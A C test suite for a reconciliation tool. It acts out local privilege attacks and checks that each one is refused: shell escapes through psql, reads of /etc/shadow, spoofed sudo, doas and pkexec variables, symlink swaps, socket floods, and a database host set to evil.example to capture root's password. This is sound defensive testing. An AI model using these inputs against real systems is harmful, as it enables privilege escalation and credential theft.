/*
 * What somebody tries who knows the trade, as the users of the machine that docs/security.md speaks
 * of; its matrix names these tests. Each has a counter-case beside it: what is right still happens.
 * They are other users, so root alone can play them.
 */
#include <assert.h>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "acts.h"
#include "base/cleanup.h"
#include "base/mem.h"
#include "base/table.h"
#include "host/file.h"
#include "test.h"

#define DAEMON 1
#define BIN    2
#define NOBODY 65534

#define BOTH "approvers = ( { user = \"daemon\"; }, { user = \"bin\"; } );"

static int stand_up(void **state)
{
    (void)state;
    end_sits(NULL);
    return unsetenv("SUDO_UID") | unsetenv("SUDO_USER") | unsetenv("DOAS_USER") |
           unsetenv("PKEXEC_UID");
}

TEST_EACH(stand_up, NULL);

#define AS(name, end, uid, ...)                                                                    \
    CLEANUP(end_result_release)                                                                    \
    struct end_result name = end_run_as(end, uid, (const char *const[]){__VA_ARGS__, NULL})
#define BARE(name, end, ...)                                                                       \
    CLEANUP(end_result_release)                                                                    \
    struct end_result name = end_run_bare(end, (const char *const[]){__VA_ARGS__, NULL})

static int64_t count_rulings(struct acts *acts)
{
    return end_count(&acts->end, "select count(*) from reconcile.ruling");
}

/* --- the two-person rule --- */

/* One person with every variable that could say otherwise, and root, are not a second one. */
TEST(attack_one_person_is_not_two_approvers)
{
    WORLD(acts, 2, 4, NULL);

    if (geteuid() != 0)
        skip();
    acts_approval(&acts, "suspend = 2; deprovision = 2; " BOTH);
    acts_plan(&acts, 0);
    end_sits("1");
    RUN(first, &acts.end, "approve", "1", "--digest", acts.digest);
    end_assert_code(&first, 0);
    end_assert_says(&first.out, "by 'daemon'");
    end_assert_says(&first.out, "2 need somebody else");
    assert_int_equal(setenv("SUDO_UID", "2", 1), 0);
    assert_int_equal(setenv("SUDO_USER", "bin", 1), 0);
    RUN(again, &acts.end, "approve", "1", "--digest", acts.digest);
    end_assert_code(&again, 0);
    end_assert_says(&again.out, "by 'daemon'");
    end_sits(NULL); /* as root, by a line in sudoers: the configuration is not root's alone */
    RUN(root, &acts.end, "approve", "1", "--digest", acts.digest);
    end_assert_code(&root, 78);
    assert_int_equal(unsetenv("SUDO_UID") | unsetenv("SUDO_USER"), 0);
    RUN(su, &acts.end, "approve", "1", "--digest", acts.digest); /* by su, which leaves no trace */
    end_assert_code(&su, 20);
    end_assert_says(&su.err, "'root' is not among");
    APPLY(refused, &acts, 20);
    assert_int_equal(acts_writes(&acts), 0);
    end_sits("2"); /* a second person */
    RUN(second, &acts.end, "approve", "1", "--digest", acts.digest);
    end_assert_says(&second.out, "2 rows approved by 'bin'");
    end_sits(NULL);
    APPLY(applied, &acts, 0);
    assert_int_equal(acts_writes(&acts), 2);
}

TEST(attack_root_is_no_approver_where_nobody_is_listed)
{
    WORLD(acts, 2, 4, NULL);

    if (geteuid() != 0)
        skip();
    acts_approval(&acts, "suspend = 1; deprovision = 1; approvers = ();");
    acts_plan(&acts, 0);
    RUN(root, &acts.end, "approve", "1", "--digest", acts.digest);
    end_assert_code(&root, 20);
    end_assert_says(&root.err, "decide as yourself, without sudo");
    assert_int_equal(count_rulings(&acts), 0);
    end_sits("1");
    RUN(person, &acts.end, "approve", "1", "--digest", acts.digest);
    end_assert_code(&person, 0);
}

/* --- at the desk --- */

enum { FILES = 24 };

/* A file that the asker can name and not open: lent as what a path leads to (O_PATH). */
static const char *lent;

/* What a client of one's own making could send: these words, each with a NUL, and so many files. */
static int ask_raw(const char *path, const char *words, size_t length, size_t files, int out)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    union {
        char bytes[CMSG_SPACE(FILES * sizeof(int))];
        size_t align;
    } control = {.align = 0};
    struct iovec part = {.iov_base = (void *)(uintptr_t)words, .iov_len = length};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0), code = -1;
    int file[FILES];

    memcpy(address.sun_path, path, strlen(path) + 1);
    for (size_t i = 0; i < FILES; i++)
        file[i] = out;
    if (lent)
        file[3] = open(lent, O_PATH | O_CLOEXEC);
    if (setresuid(DAEMON, DAEMON, DAEMON) < 0 ||
        connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
        return 200;
    if (files > 0) {
        message.msg_control = control.bytes;
        message.msg_controllen = CMSG_SPACE(files * sizeof(int));
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        assert(header);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(files * sizeof(int));
        memcpy(CMSG_DATA(header), file, files * sizeof(int));
    }
    if (sendmsg(fd, &message, 0) < 0)
        return 201;
    return recv(fd, &code, sizeof(code), 0) == sizeof(code) ? code : 202;
}

static int ask_as_daemon(const char *desk, const char *out_path, const char *words, size_t length,
                         size_t files)
{
    int status = 0, out = open(out_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    pid_t pid = fork();

    assert_true(pid >= 0 && out >= 0);
    if (pid == 0)
        _exit(ask_raw(desk, words, length, files, out));
    (void)close(out);
    assert_int_equal(waitpid(pid, &status, 0), pid);
    return WEXITSTATUS(status);
}

TEST(attack_by_words_of_ones_own_reaches_nothing_but_the_reviewers_verbs)
{
#define WORDS(text) text, sizeof(text)
    static const struct {
        const char *words;
        size_t length, files;
        int code;
        const char *says; /* NULL: nobody is there to be told */
    } asks[] = {
        {WORDS("psql\0-c\0\\! id"), 3, 64, "not for reviewers"},
        {WORDS("run"), 3, 64, "not for reviewers"},
        {WORDS("apply"), 3, 64, "not for reviewers"},
        {WORDS("plan\0--output=/tmp/reviewers-output"), 3, 64, "not for reviewers"},
        {WORDS("migrate"), 3, 64, "not for reviewers"},
        {WORDS("erase\0jane\0--reason=x"), 3, 64, "not for reviewers"},
        {WORDS("export"), 3, 64, "not for reviewers"},
        {WORDS("init"), 3, 64, "not for reviewers"},
        {WORDS("desk"), 3, 64, "not for reviewers"},
        {WORDS("--config=/etc/passwd\0show"), 3, 64, "two configurations"},
        {WORDS("@other\0show"), 3, 64, "two configurations"},
        {WORDS("show\0--output=/tmp/reviewers-output"), 3, 64, "--output is not for reviewers"},
        {WORDS("status\0--database=host=/tmp"), 3, 64, "--database is not for reviewers"},
        {WORDS("status\0--database=x\0--password-file=/etc/shadow"), 3, 64, "not for reviewers"},
        {WORDS("approve\0001\0--only=/etc/shadow\0--digest=x"), 3, 64, "--only is not for"},
        {WORDS("approve\0001\0--only=x\0--digest=x"), 4, 64, "--only is not for"}, /* no copy */
        {WORDS("review\0001\0/etc/shadow"), 3, 64, "a path is not for reviewers"},
        {WORDS("review\0001\0x"), 4, 64, "a path is not for reviewers"}, /* likewise */
        {WORDS("--help"), 3, 0, NULL},
        {WORDS(""), 3, 64, "unknown verb"},
        {WORDS("show"), 0, 202, NULL},
        {WORDS("show"), 2, 202, NULL},
        {"show", 4, 3, 202, NULL}, /* no NUL behind it */
        {WORDS("show"), 8, 0, "would"},
        {WORDS("plans"), 3, 0, "proposed"},
        {WORDS("simulate"), 3, 0, "what would be, on the picture of plan 1"},
        {WORDS("simulate\0--policy=/etc/shadow"), 3, 64, "--policy is not for"},
        {WORDS("diff"), 3, 64, "there is no earlier plan"},
        {WORDS("plans\0--output=/tmp/reviewers-output"), 3, 64, "--output is not for reviewers"},
        {WORDS("show"), 21, 202, NULL}, /* one more than there is room for */
        {WORDS("show"), FILES, 202, NULL},
    };
    WORLD(acts, 2, 4, NULL);

    if (geteuid() != 0)
        skip();
    acts_plan(&acts, 0);
    CLEANUP(mem_cleanup) char *desk = probe_path(&acts.end.probe, "raw");
    CLEANUP(mem_cleanup) char *out = probe_path(&acts.end.probe, "raw.out");
    CLEANUP(mem_cleanup) char *secret = probe_path(&acts.end.probe, "client-secret");
    pid_t service = end_open_desk(&acts.end, desk, 0666);
    for (size_t i = 0; i < 2 * COUNT_OF(asks); i++) {
        size_t k = i / 2;
        lent = i % 2 ? secret : NULL;
        int code = ask_as_daemon(desk, out, asks[k].words, asks[k].length, asks[k].files);
        CLEANUP(mem_cleanup) char *said = end_read(out);
        if (code != asks[k].code || (asks[k].says && !strstr(said, asks[k].says)))
            fail_msg("ask %zu, '%s': %d, it said: %.500s", k, asks[k].words, code, said);
    }
    lent = NULL;
    end_close_desk(service);
    assert_int_equal(count_rulings(&acts), 0);
    assert_int_not_equal(access("/tmp/reviewers-output", F_OK), 0);
}

TEST(attack_by_a_stranger_stops_at_the_socket)
{
    WORLD(acts, 2, 4, NULL);

    if (geteuid() != 0)
        skip();
    acts_plan(&acts, 0);
    CLEANUP(mem_cleanup) char *desk = probe_path(&acts.end.probe, "closed");
    pid_t service = end_open_desk(&acts.end, desk, 0660);
    AS(stranger, &acts.end, NOBODY, "--desk", desk, "approve", "1", "--digest", acts.digest);
    end_assert_code(&stranger, 20);
    end_assert_says(&stranger.err, "bynder-reconcile-review");
    AS(reader, &acts.end, NOBODY, "--desk", desk, "show");
    end_assert_code(&reader, 20);
    assert_int_equal(reader.out.length, 0);
    AS(direct, &acts.end, NOBODY, "--config", acts.end.config_path, "show");
    end_assert_code(&direct, 78);                /* the configuration is not theirs to read */
    assert_int_equal(chown(desk, 0, NOBODY), 0); /* now a member of its group; runs as gid too */
    AS(member, &acts.end, NOBODY, "--desk", desk, "show");
    end_assert_code(&member, 0);
    end_close_desk(service);
}

/* What a reviewer names is read and written as they are, by their own process. */
TEST(attack_by_files_at_the_desk_reads_and_writes_as_the_reviewer)
{
    WORLD(acts, 2, 4, NULL);

    if (geteuid() != 0)
        skip();
    acts_plan(&acts, 0);
    CLEANUP(mem_cleanup) char *secret = probe_path(&acts.end.probe, "client-secret");
    CLEANUP(mem_cleanup) char *roots = probe_path(&acts.end.probe, "roots");
    CLEANUP(mem_cleanup) char *desk = probe_path(&acts.end.probe, "files");
    pid_t service = end_open_desk(&acts.end, desk, 0666);
    AS(only, &acts.end, DAEMON, "--desk", desk, "approve", "1", "--digest", acts.digest, "--only",
       secret);
    end_assert_code(&only, 64);
    end_assert_says(&only.err, "Permission denied");
    end_assert_silent_of(&only.err, END_SECRET);
    AS(decisions, &acts.end, DAEMON, "--desk", desk, "review", "1", secret);
    end_assert_code(&decisions, 64);
    end_assert_says(&decisions.err, "Permission denied");
    end_assert_silent_of(&decisions.err, END_SECRET);
    AS(output, &acts.end, DAEMON, "--desk", desk, "show", "--output", roots);
    end_assert_code(&output, 70);
    assert_int_not_equal(access(roots, F_OK), 0);
    CLEANUP(mem_cleanup) char *own = probe_path(&acts.end.probe, "own");
    CLEANUP(mem_cleanup) char *page = file_join(own, "plan.html");
    assert_true(mkdir(own, 0700) == 0 && chown(own, DAEMON, DAEMON) == 0);
    AS(written, &acts.end, DAEMON, "--desk", desk, "show", "--format", "html", "--output", page);
    end_assert_code(&written, 0);
    CLEANUP(mem_cleanup) char *book = file_join(own, "plan.xlsx");
    AS(workbook, &acts.end, DAEMON, "--desk", desk, "show", "--format", "xlsx", "--output", book);
    end_assert_code(&workbook, 0);
    CLEANUP(mem_cleanup) char *bytes = end_read(book);
    assert_true(text_starts(bytes, "PK"));
    end_close_desk(service);
    struct stat status;
    assert_int_equal(stat(page, &status), 0);
    assert_int_equal(status.st_uid, DAEMON);
    CLEANUP(mem_cleanup) char *html = end_read(page);
    assert_non_null(strstr(html, "</html>"));
}

/* Who says nothing, and keeps three questions open. */
static void hold_the_desk(const char *path, int started)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};

    memcpy(address.sun_path, path, strlen(path) + 1);
    if (setresuid(NOBODY, NOBODY, NOBODY) < 0)
        _exit(1);
    for (int i = 0; i < 40; i++) {
        int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
        if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
            _exit(1);
    }
    (void)!write(started, "", 1);
    (void)pause();
}

TEST(attack_by_many_questions_leaves_the_desk_to_the_others)
{
    WORLD(acts, 2, 4, NULL);
    int started[2];
    char byte;

    if (geteuid() != 0)
        skip();
    acts_plan(&acts, 0);
    CLEANUP(mem_cleanup) char *desk = probe_path(&acts.end.probe, "full");
    pid_t service = end_open_desk(&acts.end, desk, 0666);
    assert_int_equal(pipe(started), 0);
    pid_t holder = fork();
    if (holder == 0)
        hold_the_desk(desk, started[1]);
    assert_int_equal(read(started[0], &byte, 1), 1);
    AS(reader, &acts.end, DAEMON, "--desk", desk, "show");
    end_assert_code(&reader, 0);
    assert_true(reader.seconds < 20); /* sixteen at a time would be waited for ten seconds each */
    (void)kill(holder, SIGKILL);
    (void)waitpid(holder, NULL, 0);
    (void)close(started[0]);
    (void)close(started[1]);
    end_close_desk(service);
}

/* --- a line in sudoers for this one program --- */

/* A place that is root's all the way up, which nothing below /tmp is. */
static char *roots_config(struct acts *acts, char *directory)
{
    CLEANUP(mem_cleanup) char *config = end_read(acts->end.config_path);
    CLEANUP(mem_cleanup) char *path = probe_path(&acts->end.probe, "client-secret");
    CLEANUP(mem_cleanup) char *secret = end_read(path);

    assert_non_null(mkdtemp(directory));
    CLEANUP(mem_cleanup) char *beside = file_join(directory, "client-secret");
    char *own = file_join(directory, "acme.conf");
    assert_int_equal(file_write(beside, 0600, secret, strlen(secret), NULL), 0);
    assert_int_equal(file_write(own, 0600, config, strlen(config), NULL), 0);
    return own;
}

static void under_each(void (*attack)(struct acts *acts, const char *config), struct acts *acts,
                       const char *config)
{
    static const char *const by[][2] = {
        {"SUDO_UID", "1"}, {"DOAS_USER", "daemon"}, {"PKEXEC_UID", "1"}};

    for (size_t i = 0; i < COUNT_OF(by); i++) {
        assert_int_equal(setenv(by[i][0], by[i][1], 1), 0);
        attack(acts, config);
        assert_int_equal(unsetenv(by[i][0]), 0);
    }
}

static void try_to_become_root(struct acts *acts, const char *config)
{
    struct end *end = &acts->end;
    CLEANUP(mem_cleanup) char *secret = probe_path(&end->probe, "client-secret");
    CLEANUP(mem_cleanup) char *roots = probe_path(&end->probe, "roots");
    CLEANUP(mem_cleanup) char *bait = probe_path(&end->probe, "bait.conf");

    BARE(psql, end, "--config", config, "psql", "-c", "\\! id");
    end_assert_code(&psql, 64);
    end_assert_silent_of(&psql.out, "uid=");
    BARE(two, end, "--config", config, "--config", end->config_path, "show");
    end_assert_code(&two, 64);
    BARE(bindir, end, "--config", end->config_path, "status"); /* one's own, with any bindir */
    end_assert_code(&bindir, 78);
    BARE(only, end, "--config", config, "approve", "1", "--digest", "x", "--only", secret);
    end_assert_code(&only, 64);
    end_assert_silent_of(&only.err, END_SECRET);
    BARE(roster, end, "--config", config, "roster", "check", secret);
    end_assert_code(&roster, 64);
    end_assert_silent_of(&roster.err, END_SECRET);
    BARE(output, end, "--config", config, "show", "--output", roots);
    end_assert_code(&output, 70);
    assert_int_not_equal(access(roots, F_OK), 0);
    BARE(database, end, "--config", config, "status", "--database", "host=/tmp");
    end_assert_code(&database, 64);
    CLEANUP(mem_cleanup) char *desk = probe_path(&end->probe, "sudo-desk");
    BARE(handed, end, "--config", config, "--desk", desk, "review", "1", secret);
    end_assert_code(&handed, 64);
    end_assert_says(&handed.err, "cannot be read by 'daemon'");
    BARE(put, end, "--config", config, "--desk", desk, "show", "--output", roots);
    end_assert_code(&put, 70);
    assert_int_not_equal(access(roots, F_OK), 0);
    assert_int_equal(symlink(config, bait), 0); /* followed once, to what is root's */
    BARE(linked, end, "--config", bait, "show");
    end_assert_code(&linked, 0);
    assert_int_equal(unlink(bait), 0);
}

static void work_as_ever(struct acts *acts, const char *config)
{
    CLEANUP(mem_cleanup) char *own = probe_path(&acts->end.probe, "sudo");
    CLEANUP(mem_cleanup) char *page = file_join(own, "plan.txt");
    struct stat status;

    BARE(shown, &acts->end, "--config", config, "show");
    end_assert_code(&shown, 0);
    BARE(written, &acts->end, "--config", config, "show", "--output", page);
    end_assert_code(&written, 0);
    assert_int_equal(stat(page, &status), 0);
    assert_int_equal(status.st_uid, DAEMON);
    BARE(roster, &acts->end, "--config", config, "roster", "check", acts->end.roster_path);
    end_assert_says(&roster.out, "accepted");
}

TEST(attack_by_sudo_doas_and_pkexec_does_not_become_root)
{
    WORLD(acts, 2, 4, NULL);
    char directory[] = "/run/attack-XXXXXX";

    if (geteuid() != 0)
        skip();
    acts_plan(&acts, 0);
    CLEANUP(mem_cleanup) char *config = roots_config(&acts, directory);
    CLEANUP(mem_cleanup) char *own = probe_path(&acts.end.probe, "sudo");
    assert_int_equal(chmod(acts.end.probe.directory, 0711), 0);
    assert_int_equal(chmod(acts.end.roster_path, 0644), 0);
    assert_true(mkdir(own, 0700) == 0 && chown(own, DAEMON, DAEMON) == 0);
    CLEANUP(mem_cleanup) char *desk = probe_path(&acts.end.probe, "sudo-desk");
    pid_t service = end_open_desk(&acts.end, desk, 0666); /* it might be anybody's */
    under_each(try_to_become_root, &acts, config);
    end_close_desk(service);
    assert_int_equal(count_rulings(&acts), 0);
    under_each(work_as_ever, &acts, config);
    CLEANUP(mem_cleanup) char *beside = file_join(directory, "client-secret");
    assert_true(unlink(config) == 0 && unlink(beside) == 0 && rmdir(directory) == 0);
}

/* --- init, which writes what is believed --- */

/* Everything an invoker needs to have root's password sent to them: refused before it is looked at.
 */
static void try_to_make_a_configuration(struct acts *acts, const char *config)
{
    struct end *end = &acts->end;
    CLEANUP(mem_cleanup) char *secret = probe_path(&end->probe, "own-secret");

    BARE(init, end, "--config", config, "init", "--portal", "https://a.bynder.com", "--client-id",
         "x", "--secret-file", secret, "--roster", end->roster_path, "--database",
         "host=evil.example user=postgres");
    end_assert_code(&init, 64);
    end_assert_says(&init.err, "init as root for 'daemon'");
    end_assert_says(&init.err, " env -u ");
    assert_int_not_equal(access(config, F_OK), 0);
}

TEST(attack_by_init_as_root_for_somebody_makes_no_configuration_of_root_s)
{
    WORLD(acts, 2, 4, NULL);

    if (geteuid() != 0)
        skip();
    CLEANUP(mem_cleanup) char *secret = probe_path(&acts.end.probe, "own-secret");
    CLEANUP(mem_cleanup) char *fresh = probe_path(&acts.end.probe, "fresh.conf");
    assert_int_equal(file_write(secret, 0600, "x", 1, NULL), 0);
    under_each(try_to_make_a_configuration, &acts, "/etc/bynder-reconcile/evil-of-test.conf");
    under_each(try_to_make_a_configuration, &acts, fresh);
    assert_int_equal(setenv("SUDO_UID", "0", 1), 0); /* root by sudo, and root: nobody is let in */
    BARE(root, &acts.end, "--config", fresh, "init", "--portal", "https://a.bynder.com",
         "--client-id", "x", "--secret-file", secret, "--roster", acts.end.roster_path);
    end_assert_says(&root.out, "written: ");
    assert_int_equal(unsetenv("SUDO_UID"), 0);
    assert_int_equal(unlink(fresh), 0);
    BARE(bare, &acts.end, "--config", fresh, "init", "--portal", "https://a.bynder.com",
         "--client-id", "x", "--secret-file", secret, "--roster", acts.end.roster_path);
    end_assert_says(&bare.out, "written: ");
}

TEST(attack_by_two_variables_that_disagree_takes_nobody_s_rights)
{
    WORLD(acts, 2, 4, NULL);
    char directory[] = "/run/attack-XXXXXX";

    if (geteuid() != 0)
        skip();
    acts_plan(&acts, 0);
    CLEANUP(mem_cleanup) char *config = roots_config(&acts, directory);
    assert_int_equal(setenv("SUDO_UID", "1", 1) | setenv("DOAS_USER", "bin", 1), 0);
    BARE(two, &acts.end, "--config", config, "show");
    end_assert_code(&two, 64);
    end_assert_says(&two.err, "SUDO_UID says that this is root for 'daemon', and DOAS_USER");
    assert_int_equal(setenv("SUDO_UID", "0", 1), 0); /* root that is somebody's as well */
    BARE(root, &acts.end, "--config", config, "show");
    end_assert_code(&root, 64);
    assert_int_equal(setenv("SUDO_UID", "1", 1) | setenv("DOAS_USER", "daemon", 1), 0);
    BARE(one, &acts.end, "--config", config, "show");
    end_assert_code(&one, 0);
    CLEANUP(mem_cleanup) char *beside = file_join(directory, "client-secret");
    assert_true(unlink(config) == 0 && unlink(beside) == 0 && rmdir(directory) == 0);
}

/* What one's groups may read is read, and what root's may is not. */
TEST(attack_by_sudo_has_the_groups_of_who_called_and_no_others)
{
    WORLD(acts, 2, 4, NULL);
    char directory[] = "/run/attack-XXXXXX";
    const struct group *group = NULL;
    const struct passwd *user = NULL;

    setgrent();
    while (!user && (group = getgrent())) /* a member who is not there by their own group */
        for (char **name = group->gr_mem; *name && !user; name++) {
            user = getpwnam(*name);
            user = user && user->pw_uid && user->pw_gid != group->gr_gid ? user : NULL;
        }
    if (geteuid() != 0 || !user)
        skip();
    CLEANUP(text_release) struct text id = TEXT_INIT;
    text_addf(&id, "%u", (unsigned)user->pw_uid);
    CLEANUP(mem_cleanup) char *config = roots_config(&acts, directory);
    assert_int_equal(chmod(acts.end.probe.directory, 0711), 0);
    assert_int_equal(chmod(acts.end.roster_path, 0640), 0);
    assert_int_equal(chown(acts.end.roster_path, 0, group->gr_gid), 0);
    assert_int_equal(setenv("SUDO_UID", text_cstr(&id), 1), 0);
    BARE(member, &acts.end, "--config", config, "roster", "check", acts.end.roster_path);
    end_assert_says(&member.out, "accepted");
    assert_int_equal(chown(acts.end.roster_path, 0, 0), 0);
    BARE(roots, &acts.end, "--config", config, "roster", "check", acts.end.roster_path);
    end_assert_code(&roots, 64);
    assert_int_equal(unsetenv("SUDO_UID"), 0);
    CLEANUP(mem_cleanup) char *beside = file_join(directory, "client-secret");
    assert_true(unlink(config) == 0 && unlink(beside) == 0 && rmdir(directory) == 0);
}

/* --- whoever owns the service's directories --- */

#define CANARY "of-root-alone-4711"

enum { WALKED_MOST = 40 };

/* What the program left in the two directories, below that of the world. */
struct walked {
    char *path[WALKED_MOST];
    size_t count;
};

static void walked_release(struct walked *walked)
{
    for (size_t i = 0; i < walked->count; i++)
        free(walked->path[i]);
}

static void walk(struct end *end, const char *name, struct walked *walked)
{
    CLEANUP(mem_cleanup) char *directory = probe_path(&end->probe, name);
    DIR *listed = opendir(directory);

    assert_non_null(listed);
    for (struct dirent *entry; (entry = readdir(listed));) {
        if (entry->d_name[0] == '.')
            continue;
        assert_true(walked->count < WALKED_MOST);
        walked->path[walked->count++] = file_join(directory, entry->d_name);
    }
    (void)closedir(listed);
}

/* Reports of the plan that is made next are not there yet. */
static char *next_name(struct end *end, const char *path)
{
    CLEANUP(text_release) struct text name = TEXT_INIT;
    const char *number = strstr(path, "end-plan-");

    if (!number)
        return mem_strdup(path);
    number += strlen("end-plan-");
    text_addf(&name, "%.*s%lld%s", (int)(number - path), path,
              (long long)end_count(end, "select coalesce(max(plan_id), 0) + 1 from audit.plan"),
              number + strspn(number, "0123456789"));
    return mem_strdup(text_cstr(&name));
}

static void put_link(const char *path, const char *canary)
{
    (void)unlink(path);
    assert_int_equal(symlink(canary, path), 0);
    assert_int_equal(lchown(path, DAEMON, DAEMON), 0);
}

static void remove_link(const char *path)
{
    struct stat status;

    if (lstat(path, &status) == 0 && S_ISLNK(status.st_mode))
        (void)unlink(path);
}

static void check_canary(struct end *end, const char *canary, const struct stat *before,
                         const struct end_result *result, const char *what)
{
    CLEANUP(mem_cleanup) char *text = end_read(canary);
    CLEANUP(walked_release) struct walked walked = {.count = 0};
    struct stat after;

    assert_int_equal(stat(canary, &after), 0);
    if (!text_equal(text, CANARY) || after.st_mode != before->st_mode || after.st_uid != 0 ||
        after.st_ino != before->st_ino || after.st_nlink != 1 ||
        after.st_mtim.tv_nsec != before->st_mtim.tv_nsec)
        fail_msg("%s: the canary was changed", what);
    if (strstr(text_cstr(&result->out), CANARY) || strstr(text_cstr(&result->err), CANARY))
        fail_msg("%s: the canary was told", what);
    if (result->code >= 128)
        fail_msg("%s: exit %d: %s", what, result->code, text_cstr(&result->err));
    walk(end, "state", &walked);
    walk(end, "reports", &walked);
    for (size_t i = 0; i < walked.count; i++) {
        struct stat status;
        if (lstat(walked.path[i], &status) < 0 || !S_ISREG(status.st_mode))
            continue;
        CLEANUP(mem_cleanup) char *copy = end_read(walked.path[i]);
        if (strstr(copy, CANARY))
            fail_msg("%s: the canary was copied into %s", what, walked.path[i]);
    }
}

static void give_to_daemon(struct end *end, const char *name)
{
    CLEANUP(mem_cleanup) char *directory = probe_path(&end->probe, name);

    assert_int_equal(mkdir(directory, 0755), 0);
    assert_int_equal(chown(directory, DAEMON, DAEMON), 0);
}

/* Each file that is touched, by each verb of root's: a link in its place leads root nowhere. */
TEST(attack_by_links_in_the_place_of_each_file_changes_and_tells_nothing_of_root)
{
    static const char *const verbs[][6] = {
        {"plan"},
        {"run"},
        {"apply"},
        {"show"},
        {"status"},
        {"check"},
        {"audit", "verify"},
        {"audit", "accept-restore", "--reason", "we looked"},
    };
    CLEANUP(end_finish) struct end end;
    CLEANUP(walked_release) struct walked walked = {.count = 0};
    struct stat before;

    if (geteuid() != 0)
        skip();
    end_begin(&end, (const char *const[]){"--users", "40", "--seed", "5", NULL});
    CLEANUP(mem_cleanup) char *canary = end_file(&end, "canary", CANARY, strlen(CANARY));
    assert_int_equal(stat(canary, &before), 0);
    assert_int_equal(chmod(end.probe.directory, 0711), 0);
    give_to_daemon(&end, "state");
    give_to_daemon(&end, "reports");
    end_set(&end, END_REST,
            "report: { directory = \"reports\"; formats = [ \"text\", \"json\", \"csv\", "
            "\"html\" ]; }; apply: { state_directory = \"state\"; };"
            "metrics: { textfile = \"state/metrics.prom\"; };");
    RUN(first, &end, "run");
    walk(&end, "state", &walked);
    walk(&end, "reports", &walked);
    assert_true(walked.count >= 6); /* four reports, the head, the figures */
    for (size_t i = 0; i < walked.count; i++) {
        for (size_t v = 0; v < COUNT_OF(verbs); v++) {
            CLEANUP(text_release) struct text what = TEXT_INIT;
            CLEANUP(mem_cleanup) char *next = next_name(&end, walked.path[i]);

            text_addf(&what, "%s, %s %s", walked.path[i], verbs[v][0],
                      verbs[v][1] ? verbs[v][1] : "");
            put_link(walked.path[i], canary);
            put_link(next, canary);
            CLEANUP(end_result_release) struct end_result result = end_run(&end, verbs[v]);
            check_canary(&end, canary, &before, &result, text_cstr(&what));
            remove_link(walked.path[i]);
            remove_link(next);
        }
    }
    RUN(last, &end, "plan"); /* and without them all is as ever */
    end_assert_code(&last, 0);
    CLEANUP(mem_cleanup) char *number = end_query(&end, "select max(plan_id) from audit.plan");
    CLEANUP(text_release) struct text report = TEXT_INIT;
    text_addf(&report, "%s/reports/end-plan-%s.html", end.probe.directory, number);
    struct stat status;
    assert_int_equal(lstat(text_cstr(&report), &status), 0);
    assert_true(S_ISREG(status.st_mode) && status.st_uid == DAEMON && status.st_size > 1000);
}
